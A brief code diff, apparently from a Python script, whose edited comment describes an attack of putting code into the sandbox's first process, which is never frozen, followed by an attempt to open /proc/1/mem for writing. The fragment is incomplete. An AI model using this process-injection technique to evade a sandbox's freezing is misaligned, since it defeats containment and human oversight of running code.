@@ -1,4 +1,4 @@
-# The first process is the sandbox's own and is never frozen: who puts code into it computes while others are asked.
+# The attack: put code into the first process, which belongs to the sandbox and is never frozen.
 input()
 try:
     open("/proc/1/mem", "r+b", 0)
